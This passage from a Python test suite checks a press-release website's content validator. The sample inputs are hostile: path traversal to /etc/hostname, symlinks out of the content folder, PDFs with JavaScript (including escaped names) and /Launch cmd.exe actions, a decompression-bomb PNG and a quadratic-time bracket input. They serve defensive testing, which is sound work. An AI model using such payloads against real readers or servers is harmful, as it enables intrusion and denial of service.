        f"'image.src': '/etc/hostname' is an absolute path; give the path from content/, {PHOTO_EXAMPLE}"),
    bad("images", "image-windows-path", with_image("C:\\Users\\nino\\Desktop\\visit.jpg"),
        f"'image.src': 'C:\\Users\\nino\\Desktop\\visit.jpg' has a backslash; separate folders with /, {PHOTO_EXAMPLE}"),
    bad("images", "image-web-address", with_image("https://evil.example/photo.jpg"),
        f"'image.src': 'https://evil.example/photo.jpg' is a web address; save the photo in content/images/ and give its path from content/, {PHOTO_EXAMPLE}"),
    bad("images", "image-missing", with_image("images/rows/missing.jpg"),
        "'image.src': 'images/rows/missing.jpg' does not exist under content/; check the spelling, or add the photo to content/images/"),
    bad("images", "image-is-a-folder", with_image("images"),
        f"'image.src': 'images' is a folder; give the path of a photo in it, {PHOTO_EXAMPLE}"),
    bad("images", "image-without-alt", release(extra="image:\n  src: images/conference.png\n"),
        "'image.alt': missing; describe the image for readers who cannot see it"),
    bad("images", "image-on-one-line", release(image="images/conference.png"),
        "'image': 'images/conference.png' is not an image; expected 'src:' and 'alt:' lines indented under 'image:'"),
    Row("image-text-named-jpg", "images", {f"{ROWS}/image-text-named-jpg.en.md": with_image("images/rows/notes.jpg"),
                                           "images/rows/notes.jpg": b"Caption: the minister at the office.\n"},
        (f"{SHOWN}/image-text-named-jpg.en.md: 'image.src': 'images/rows/notes.jpg' is a text file, not an image; export it as JPEG",)),
    Row("image-empty", "images", {f"{ROWS}/image-empty.en.md": with_image("images/rows/empty.jpg"), "images/rows/empty.jpg": b""},
        (f"{SHOWN}/image-empty.en.md: 'image.src': 'images/rows/empty.jpg' is an empty file; export it as JPEG",)),
    Row("image-truncated-jpeg", "images", {f"{ROWS}/image-truncated-jpeg.en.md": with_image("images/rows/cut.jpg"),
                                           "images/rows/cut.jpg": jpeg()[:1500]},
        (f"{SHOWN}/image-truncated-jpeg.en.md: 'image.src': 'images/rows/cut.jpg' is damaged or incomplete; copy or export it again from the original",)),
    Row("image-svg", "images", {f"{ROWS}/image-svg.en.md": with_image("images/rows/chart.svg"), "images/rows/chart.svg": SVG},
        (f"content/images/rows/chart.svg: {NOT_PHOTO}",
         f"{SHOWN}/image-svg.en.md: 'image.src': 'images/rows/chart.svg' is an SVG drawing, which can carry script; export it as JPEG")),
    Row("image-gif", "images", {f"{ROWS}/image-gif.en.md": with_image("images/rows/animated.jpg"),
                                "images/rows/animated.jpg": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"},
        (f"{SHOWN}/image-gif.en.md: 'image.src': 'images/rows/animated.jpg' is a GIF image; export it as JPEG",)),
    Row("image-heic", "images", {f"{ROWS}/image-heic.en.md": with_image("images/rows/iphone.jpg"),
                                 "images/rows/iphone.jpg": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64},
        (f"{SHOWN}/image-heic.en.md: 'image.src': 'images/rows/iphone.jpg' is a HEIC photo (an iPhone's format); export it as JPEG",)),
    Row("image-decompression-bomb", "images", {f"{ROWS}/image-decompression-bomb.en.md": with_image("images/rows/bomb.png"),
                                               "images/rows/bomb.png": png_header(100_000, 100_000)},
        (f"{SHOWN}/image-decompression-bomb.en.md: 'image.src': 'images/rows/bomb.png' is over 178 megapixels, "
         f"more than the limit of 50 megapixels; {SMALLER}",)),
    Row("image-100-megapixels", "images", {f"{ROWS}/image-100-megapixels.en.md": with_image("images/rows/huge.png"),
                                           "images/rows/huge.png": png_header(10_000, 10_000)},
        (f"{SHOWN}/image-100-megapixels.en.md: 'image.src': 'images/rows/huge.png' is 10000 × 10000 pixels, "
         f"more than the limit of 50 megapixels; {SMALLER}",)),
    Row("image-link-outside", "images", {f"{ROWS}/image-link-outside.en.md": with_image("images/rows/linked.jpg"),
                                         "images/rows/linked.jpg": Link("/etc/hostname")},
        (f"content/images/rows/linked.jpg: {LINK_OUT}",
         f"{SHOWN}/image-link-outside.en.md: 'image.src': 'images/rows/linked.jpg' is a link to a place outside content/images/; copy the photo itself into content/images/")),

    # -- attachments -----------------------------------------------------------------------------
    bad("attachments", "attachments-on-one-line", release(attachments="files/report.pdf"),
        f"'attachments': 'files/report.pdf' is not a list of documents; {DOCUMENT_ENTRY}"),
    bad("attachments", "attachment-without-title", release(extra="attachments:\n  - file: files/report.pdf\n"),
        "'attachments[1].title': missing; give the words of the link to the document, e.g. 'Annual report 2018'"),
    bad("attachments", "attachment-without-file", release(extra="attachments:\n  - title: The annual report\n"),
        f"'attachments[1].file': missing; give the document's path from content/, e.g. {DOCUMENT_EXAMPLE}"),
    bad("attachments", "attachment-title-on-two-lines", with_attachment("files/report.pdf", title='"The annual\\nreport"'),
        "'attachments[1].title': 'The annual\\nreport' contains a line break after 'The annual'; write it on one line"),
    bad("attachments", "attachment-climbs-out", with_attachment("../../../../etc/hostname"),
        f"'attachments[1].file': '../../../../etc/hostname' {DOCUMENT_OUTSIDE}"),
    bad("attachments", "attachment-absolute-path", with_attachment("/etc/report.pdf"),
        f"'attachments[1].file': '/etc/report.pdf' is an absolute path; give the path from content/, e.g. {DOCUMENT_EXAMPLE}"),
    bad("attachments", "attachment-web-address", with_attachment("https://evil.example/report.pdf"),
        "'attachments[1].file': 'https://evil.example/report.pdf' is a web address; save the document in content/files/ and give its "
        f"path from content/, e.g. {DOCUMENT_EXAMPLE}"),
    bad("attachments", "attachment-in-images", with_attachment("images/conference.png"),
        f"'attachments[1].file': 'images/conference.png' {DOCUMENT_OUTSIDE}"),
    attached("attachment-missing", "missing.pdf", None,
             f"{SHOWN}/attachment-missing.en.md: 'attachments[1].file': 'files/rows/missing.pdf' does not exist under content/; "
             "check the spelling, or add the document to content/files/"),
    attached("attachment-word-document", "report.docx", word_document(),
             f"content/files/rows/report.docx: {NOT_DOCUMENT}",
             f"{SHOWN}/attachment-word-document.en.md: 'attachments[1].file': 'files/rows/report.docx' is not a PDF document; "
             f"the site publishes PDF documents only: {EXPORT_PDF}, and attach that"),
    attached("attachment-word-named-pdf", "renamed.pdf", word_document(),
             f"{SHOWN}/attachment-word-named-pdf.en.md: 'attachments[1].file': 'files/rows/renamed.pdf' is a Word, Excel or other "
             f"Office document (or a ZIP archive), not a PDF; {EXPORT_PDF}"),
    attached("attachment-svg-named-pdf", "drawing.pdf", SVG,
             f"{SHOWN}/attachment-svg-named-pdf.en.md: 'attachments[1].file': 'files/rows/drawing.pdf' is a text file, not a PDF; {EXPORT_PDF}"),
    attached("attachment-empty", "empty.pdf", b"",
             f"{SHOWN}/attachment-empty.en.md: 'attachments[1].file': 'files/rows/empty.pdf' is an empty file; {EXPORT_PDF} again"),
    attached("attachment-cut-off", "cut.pdf", pdf()[:700],
             f"{SHOWN}/attachment-cut-off.en.md: 'attachments[1].file': 'files/rows/cut.pdf' is damaged or incomplete (it does not end "
             "as a PDF ends); copy or export it again from the original"),
    attached("attachment-over-25-mb", "huge.pdf", b"%PDF-" + b"\x00" * 25_000_000,
             f"{SHOWN}/attachment-over-25-mb.en.md: 'attachments[1].file': 'files/rows/huge.pdf' is 25.1 MB, more than the limit of "
             "25 MB; make it smaller (in Word: File → Save as → PDF → Minimum size), or split it"),
    attached("attachment-javascript", "script.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
             f"{SHOWN}/attachment-javascript.en.md: 'attachments[1].file': 'files/rows/script.pdf' holds JavaScript (/JavaScript), "
             f"which would run in a reader's PDF viewer; {REPRINT}"),
    attached("attachment-javascript-escaped", "escaped.pdf", pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
             f"{SHOWN}/attachment-javascript-escaped.en.md: 'attachments[1].file': 'files/rows/escaped.pdf' holds JavaScript "
             f"(/JavaScript), which would run in a reader's PDF viewer; {REPRINT}"),
    attached("attachment-launch", "launch.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
             f"{SHOWN}/attachment-launch.en.md: 'attachments[1].file': 'files/rows/launch.pdf' holds an action that starts a program "
             f"(/Launch), which would run in a reader's PDF viewer; {REPRINT}"),
    attached("attachment-embedded-file", "carrier.pdf", pdf(b"/Names << /EmbeddedFiles 8 0 R >>"),
             f"{SHOWN}/attachment-embedded-file.en.md: 'attachments[1].file': 'files/rows/carrier.pdf' holds an embedded file "
             f"(/EmbeddedFiles), which would run in a reader's PDF viewer; {REPRINT}"),
    attached("attachment-link-outside", "linked.pdf", Link("/etc/hostname"),
             f"content/files/rows/linked.pdf: {LINK_OUT}",
             f"{SHOWN}/attachment-link-outside.en.md: 'attachments[1].file': 'files/rows/linked.pdf' is a link to a place outside "
             "content/files/; copy the document itself into content/files/"),
    Row("document-attached-to-no-release", "attachments", {"files/rows/forgotten.pdf": pdf()},
        ("content/files/rows/forgotten.pdf: is attached to no release (or only to one with a problem of its own); "
         "attach it to its release under 'attachments:', or delete it",)),
    Row("script-among-documents", "attachments", {"files/rows/tracker.js": b"alert(1);\n"},
        (f"content/files/rows/tracker.js: {NOT_DOCUMENT}",)),

    # -- corrections, renames and withdrawals ----------------------------------------------------
    bad("changes", "updated-a-month", release(updated="2020-04"),
        "'updated': '2020-04' is not a day; write the day the release was corrected, YYYY-MM-DD, e.g. 2019-01-12"),
    bad("changes", "updated-before-the-release", release(updated="2020-03-01"),
        "'updated': '2020-03-01' is before the release's date, 2020-03-02; a correction comes after the release, check the day"),
    bad("changes", "correction-without-its-day", release(correction="the office opens in May, not in April."),
        "'correction': a correction note needs the day of the correction; add the line updated: YYYY-MM-DD"),
    bad("changes", "correction-on-two-lines", release(updated="2020-04-01", extra="correction: |\n  the office opens in May,\n  not in April.\n"),
        "'correction': 'the office opens in May,\\nnot in April.' contains a line break after 'office opens in May,'; write it on one line"),
    bad("changes", "withdrawn-true", release(withdrawn="true"),
        "'withdrawn': True is not a date; write the day the release was withdrawn, YYYY-MM-DD, e.g. 2019-02-01"),
    bad("changes", "old-address-of-another-language", release(aliases="[/ka/news/opisi/]"),
        "'aliases': '/ka/news/opisi/' is an address in 'ka'; list it in the 'ka' version of the release"),
    Row("old-address-of-another-release", "changes", {f"{ROWS}/old-address-of-another-release.en.md": release(aliases="[women-police]")},
        (f"{SHOWN}/old-address-of-another-release.en.md: 'aliases': 'women-police' is the URL name of "
         "content/releases/2018/2018-03-09-women-police.en.md in the same language ('en'); an old address leads to one release only, "
         "take it out of aliases",)),
    Row("one-old-address-for-two", "changes",
        {f"{ROWS}/one-old-address-for-two-a.en.md": release(aliases="[office]"), f"{ROWS}/one-old-address-for-two-b.en.md": release(aliases="[office]")},
        (f"{SHOWN}/one-old-address-for-two-b.en.md: 'aliases': 'office' is also an old URL name of {SHOWN}/one-old-address-for-two-a.en.md "
         "in the same language ('en'); an old address leads to one release only, keep it in one of them",),
        shows={"en/news/one-old-address-for-two-a/": "A release with one mistake", "en/news/office/": "This press release has moved"}),
    Row("withdrawn-in-one-language", "changes",
        {f"{ROWS}/withdrawn-in-one-language.en.md": release(translation_key="row-withdrawn", withdrawn="2020-04-01"),
         f"{ROWS}/withdrawn-in-one-language.ka.md": release(translation_key="row-withdrawn", lang="ka", title="გამოხმობილი")},
        (f"{SHOWN}/withdrawn-in-one-language.ka.md: 'withdrawn': none disagrees with its twin {SHOWN}/withdrawn-in-one-language.en.md "
         "(2020-04-01); the language versions of one release are withdrawn together, on the same day",),
        shows={"en/news/withdrawn-in-one-language/": "A release with one mistake"}),
    Row("renamed", "changes", {f"{ROWS}/renamed.en.md": release(slug="renamed-office", aliases="[renamed, /en/news/the-office/]")}, (),
        shows={"en/news/renamed-office/": "A release with one mistake", "en/news/renamed/": "This press release has moved",
               "en/news/the-office/": "This press release has moved"}),
    typed("changes", "corrected", release(updated="2020-04-01", correction="the office opens in May, not in April."),
          "A release with one mistake"),
    typed("changes", "withdrawn", release(withdrawn="2020-04-01", withdrawn_reason="The office did not open."), "A release with one mistake"),

    # -- twins -----------------------------------------------------------------------------------
    Row("same-translation-key", "twins",
        {f"{ROWS}/same-translation-key-a.en.md": release(translation_key="row-twins"),
         f"{ROWS}/same-translation-key-b.en.md": release(translation_key="row-twins")},
        (f"{SHOWN}/same-translation-key-b.en.md: 'translation_key': 'row-twins' is also the translation key of "
         f"{SHOWN}/same-translation-key-a.en.md in the same language ('en'); each release needs its own",),
        shows={"en/news/same-translation-key-a/": "A release with one mistake"}),
    Row("same-slug", "twins",
        {f"{ROWS}/a/same-slug.en.md": release(), f"{ROWS}/b/same-slug.en.md": release()},
        (f"{SHOWN}/b/same-slug.en.md: 'slug': 'same-slug' is also the URL name of {SHOWN}/a/same-slug.en.md "
         "in the same language ('en'); each release needs its own",),
        shows={"en/news/same-slug/": "A release with one mistake"}),
    Row("twins-disagree", "twins",
        {f"{ROWS}/twins-disagree.en.md": release(translation_key="row-disagree"),
         f"{ROWS}/twins-disagree.ka.md": release(translation_key="row-disagree", lang="ka", partners="[eu, mia]", title="ტყუპი")},
        (f"{SHOWN}/twins-disagree.ka.md: 'partners': [eu, mia] disagrees with its twin {SHOWN}/twins-disagree.en.md ([eu]); "
         "the language versions of one release share their partners",),
        shows={"en/news/twins-disagree/": "A release with one mistake"}),
]

ROW_IDS = [row.id for row in TABLE]
assert len(set(ROW_IDS)) == len(ROW_IDS), "row ids are unique"
SHARED = [row for row in TABLE if not row.alone]


# -- building ------------------------------------------------------------------------------------

@dataclass
class Outputs:
    """What one site gives in each mode."""

    check: list[str]
    strict: list[str] | None  # the ContentError's problems; None when the strict build did not raise it
    strict_error: str | None  # anything else the strict build raised
    preview: list[str]  # the problem lines on stderr
    preview_error: str | None
    preview_log: list[logging.LogRecord]
    output: Path


class Records(logging.Handler):
    def __init__(self):
        super().__init__(logging.WARNING)
        self.records: list[logging.LogRecord] = []

    def emit(self, record):
        self.records.append(record)


def write(content: Path, files: dict) -> None:
    for relative, data in files.items():
        path = content / relative
        if data is None:
            path.unlink()
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(data, Link):
            path.symlink_to(data.target)
        else:
            path.write_bytes(data)


def make_site(root: Path, rows: list[Row]) -> Path:
    """A copy of the fixture with the rows' files, and a folder outside it that a row links to."""
    content = root / "content"
    shutil.copytree(FIXTURE, content, symlinks=True)
    (root / "outside").mkdir()
    for name in ("elsewhere-one.en.md", "elsewhere-two.en.md"):
        (root / "outside" / name).write_bytes(release())
    for row in rows:
        write(content, row.files)
    return content


def problem_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.startswith("content/")]


def run_all(root: Path, rows: list[Row]) -> Outputs:
    content = make_site(root, rows)
    cache = {"CACHE_PATH": str(root / "cache")}
    check = [str(problem) for problem in commands.check(settings_for(content, root / "unused", "pelicanconf.py", **cache))]
    strict = strict_error = None
    try:
        with contextlib.redirect_stderr(io.StringIO()):
            build(content, root / "strict", **cache)
        strict_error = "the strict build did not fail"
    except ContentError as error:
        strict = [str(problem) for problem in error.problems]
    except Exception as error:  # noqa: BLE001 - a crash is what the row finds
        strict_error = f"{type(error).__name__}: {error}"
    records = Records()
    stderr = io.StringIO()
    preview_error = None
    logging.getLogger().addHandler(records)
    try:
        with contextlib.redirect_stderr(stderr):
            build(content, root / "preview", "pelicanconf.py", **cache)
    except Exception as error:  # noqa: BLE001
        preview_error = f"{type(error).__name__}: {error}"
    finally:
        logging.getLogger().removeHandler(records)
    return Outputs(check, strict, strict_error, problem_lines(stderr.getvalue()), preview_error, records.records, root / "preview")


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    """The outputs of the shared site, and of each row that has a site of its own, built on first use."""
    built: dict[str, Outputs] = {}

    def of(row: Row | None) -> Outputs:
        key = row.id if row is not None and row.alone else ""
        if key not in built:
            root = tmp_path_factory.mktemp(key or "shared")
            built[key] = run_all(root, [row] if key else SHARED)
        return built[key]

    return of


def mine(row: Row, found: list[str]) -> list[str]:
    """The lines of `found` that are the row's; in a site of its own, every line is."""
    return list(found) if row.alone else [line for line in found if row.owns(line)]


def page(output: Path, url: str) -> Path:
    return output / url / "index.html"


def release_pages(output: Path) -> set[str]:
    return {path.parent.relative_to(output).as_posix() + "/" for path in output.glob("*/news/*/index.html")}


def url_of(path: str) -> str | None:
    """The page a release file would be published as, from its name (`<slug>.<lang>.md`)."""
    name = path.rsplit("/", 1)[-1].lstrip(".#")
    for lang in ("en", "ka"):
        if name.endswith(f".{lang}.md"):
            return f"{lang}/news/{name.removesuffix(f'.{lang}.md')}/"
    return f"en/news/{name.removesuffix('.md')}/" if name.endswith(".md") else None  # `lang: en` inside


# -- each row, in each mode ----------------------------------------------------------------------

@pytest.mark.parametrize("row", TABLE, ids=ROW_IDS)
def test_check_reports_the_rows_lines(row, outputs):
    assert mine(row, outputs(row).check) == list(row.lines)


@pytest.mark.parametrize("row", TABLE, ids=ROW_IDS)
def test_the_strict_build_fails_with_the_rows_lines(row, outputs):
    found = outputs(row)
    assert found.strict_error is None
    assert mine(row, found.strict) == list(row.lines)


@pytest.mark.parametrize("row", TABLE, ids=ROW_IDS)
def test_the_preview_prints_the_rows_lines_and_leaves_out_only_its_files(row, outputs):
    found = outputs(row)
    assert found.preview_error is None
    assert mine(row, found.preview) == list(row.lines)
    published = release_pages(found.output)
    broken = {line.split(": ", 1)[0] for other in ([row] if row.alone else SHARED) for line in other.lines}
    for path in row.files:  # none of the row's files has a page, unless the row says what it shows
        url = url_of(path)
        if url is not None and url not in row.shows:
            assert url not in published, f"{path} is published"
    names = {path.name for path in found.output.rglob("*") if path.is_file()}
    resized = {path.name for path in (found.output / "images").rglob("*")}
    for path in row.files:  # nor is any other file of the row published, as it is or resized
        if not path.endswith(".md"):
            assert Path(path).name not in names, path
            assert not [name for name in resized if name.startswith(f"{Path(path).stem}-")], path
    for source, url in FIXTURE_PAGES.items():  # every fixture release the row does not break is there
        assert (url in published) == (source not in broken), f"{url} is {'' if url in published else 'not '}published"
    assert set(row.shows) <= published


@pytest.mark.parametrize("row", [row for row in TABLE if row.shows], ids=[row.id for row in TABLE if row.shows])
def test_what_is_not_a_mistake_is_published_exactly_as_typed(row, outputs):
    output = outputs(row).output
    for url, h1 in row.shows.items():
        html = BeautifulSoup(page(output, url).read_text(encoding="utf-8"), "lxml")
        assert html.h1.get_text() == h1


# -- the shared site as a whole ------------------------------------------------------------------

def test_every_line_of_the_shared_site_belongs_to_a_row(outputs):
    found = outputs(None)
    for lines_found in (found.check, found.strict or [], found.preview):
        assert [line for line in lines_found if not any(row.owns(line) for row in SHARED)] == []


def test_check_the_strict_build_and_the_preview_give_the_same_lines(outputs):
    found = outputs(None)
    assert found.check == found.strict == found.preview


def test_the_preview_publishes_the_fixtures_releases_and_the_rows_that_are_not_mistakes(outputs):
    found = outputs(None)
    broken = {line.split(": ", 1)[0] for row in SHARED for line in row.lines}
    expected = {url for source, url in FIXTURE_PAGES.items() if source not in broken}
    expected |= {url for row in SHARED for url in row.shows}
    assert release_pages(found.output) == expected


def test_the_preview_logs_no_error_and_no_traceback(outputs):
    found = outputs(None)
    assert [record.getMessage() for record in found.preview_log if record.levelno >= logging.ERROR] == []
    assert not any(record.exc_info for record in found.preview_log)


def test_nothing_an_attacker_wrote_runs_in_the_preview(outputs):
    """Whatever the rows smuggled in, no page of the preview carries it as markup."""
    output = outputs(None).output
    for path in output.rglob("*.html"):
        html = BeautifulSoup(path.read_text(encoding="utf-8"), "lxml")
        for element in html.find_all(True):
            assert not [name for name in element.attrs if name.lower().startswith("on")], path
            for name in ("href", "src", "action", "data"):
                assert not str(element.get(name, "")).lower().lstrip().startswith(("javascript:", "data:")), path
        assert not [script for script in html.find_all("script") if "alert" in script.get_text() and script.get("type") != "application/ld+json"], path
        assert html.find_all(["iframe", "object", "form", "embed"]) == [], path


def test_pelican_with_publishconf_exits_non_zero_with_the_same_lines_and_no_traceback(tmp_path, outputs):
    content = make_site(tmp_path, SHARED)
    run = subprocess.run(
        [sys.executable, "-m", "pelican", str(content), "-s", str(ROOT / "publishconf.py"), "-o", str(tmp_path / "output")],
        cwd=ROOT, capture_output=True, text=True, timeout=120, env={**os.environ, "COLUMNS": "80"},
    )
    assert run.returncode != 0
    assert "Traceback" not in run.stdout + run.stderr
    assert problem_lines(run.stderr) == outputs(None).check


# -- the story, and a hang ------------------------------------------------------------------------

def test_re_saving_a_published_release_in_windows_1252_fails_the_strict_build_naming_the_file(tmp_path):
    content = tmp_path / "content"
    shutil.copytree(FIXTURE, content)
    release_file = content / "releases/2018/2018-06-06-eu-tablets.en.md"
    text = release_file.read_text(encoding="utf-8").replace("The EU has donated", "The EU’s delegation has donated")
    release_file.write_bytes(text.encode("cp1252"))
    with pytest.raises(ContentError) as failure, contextlib.redirect_stderr(io.StringIO()):
        build(content, tmp_path / "output", CACHE_PATH=str(tmp_path / "cache"))
    assert [str(problem) for problem in failure.value.problems] == [
        f"content/releases/2018/2018-06-06-eu-tablets.en.md: line 12: is not UTF-8 text (byte 0x92 ('’' in Windows-1252)); {UTF8}",
    ]


HANG = textwrap.dedent("""
    import sys
    from pathlib import Path
    sys.path[:0] = [{plugins!r}, {tests!r}]
    from conftest import settings_for
    from newsroom import commands
    for problem in commands.check(settings_for(Path({content!r}), Path({output!r}), "pelicanconf.py")):
        print(problem)
""")


# Processor time, not time on the clock: a busy machine gives the check less of the processor,
# never more work. Checking takes well under a second of it; Python-Markdown left to itself, minutes.
CPU_SECONDS = 30


def test_a_body_of_50000_brackets_is_checked_in_seconds(tmp_path):
    """Python-Markdown reads '[' after '[' in quadratic time: 50,000 of them, well under the size
    limit, must not keep the build (or `./dev check`) busy for minutes."""
    content = make_site(tmp_path, [bad("html", "brackets", release(body="[" * 50_000))])
    script = HANG.format(plugins=str(ROOT / "plugins"), tests=str(ROOT / "tests"), content=str(content), output=str(tmp_path / "output"))
    limit = lambda: resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS + 10))  # noqa: E731 - SIGXCPU at the first
    run = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True, preexec_fn=limit, timeout=600)
    assert run.returncode != -signal.SIGXCPU, f"checking a body of 50,000 '[' took more than {CPU_SECONDS} s of processor time"
    assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
    assert "has 50000 '[' that are never closed" in run.stdout


# -- the theme's catalog ----------------------------------------------------------------------------

def test_a_catalog_line_with_a_lost_quote_stops_the_build_at_start_naming_the_line(tmp_path):
    """Babel alone reads `msgstr "არქივი` (the closing quote lost) as "არქივ" and the site shows
    the word cut short; the build stops instead, before reading a release."""
    theme = shutil.copytree(ROOT / "theme", tmp_path / "theme")
    catalog = theme / "translations" / "ka" / "LC_MESSAGES" / "messages.po"
    lines = catalog.read_text(encoding="utf-8").splitlines(keepends=True)
    number = lines.index('msgstr "არქივი"\n') + 1
    lines[number - 1] = 'msgstr "არქივი\n'
    catalog.write_text("".join(lines), encoding="utf-8")
    with pytest.raises(ThemeError) as failure:
        build(FIXTURE, tmp_path / "output", THEME=str(theme), CACHE_PATH=str(tmp_path / "cache"))
    assert str(failure.value) == (
        f"theme/translations/ka/LC_MESSAGES/messages.po: line {number}: 'msgstr \"არქივი': a text opens and closes with "
        'a double quote, and a quote inside it is written \\"; fix the quotes of that line')
    assert not (tmp_path / "output").exists()
